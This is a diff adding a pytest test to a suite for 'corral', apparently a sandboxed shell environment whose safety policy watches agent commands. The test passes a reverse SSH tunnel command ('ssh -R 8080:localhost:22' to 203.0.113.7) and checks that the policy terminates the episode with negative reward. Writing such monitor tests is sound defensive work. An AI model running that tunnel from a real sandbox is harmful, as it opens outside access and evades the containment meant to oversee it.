@@ -134,3 +134,20 @@ async def test_a_rome_act_ends_the_episode_with_its_reason(url: str) -> None:
     with pytest.raises(Exception, match="ended by corral's policy"):
         await sb.restart()
     await sb.stop()
+
+
+def test_rock_gem_env_routes(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """`rock.sdk.envs.make` (the SDK's GEM env client) against corral's env routes."""
+    from rock.sdk.envs import make
+
+    monkeypatch.setenv("ROCK_BASE_URL", url)
+    env = make("corral/shell")
+    obs, info = env.reset(seed=1)
+    assert info["safety"]["terminated"] is False
+    obs, reward, term, trunc, info = env.step("echo hi")
+    assert obs == "hi\n" and (reward, term) == (0.0, False)
+    obs, reward, term, trunc, info = env.step("ssh -R 8080:localhost:22 u@203.0.113.7")
+    assert term is True and info["safety"]["terminated"] is True and reward < 0
+    env.close()
+    with pytest.raises(Exception, match="env_id"):
+        make("corral/nope")
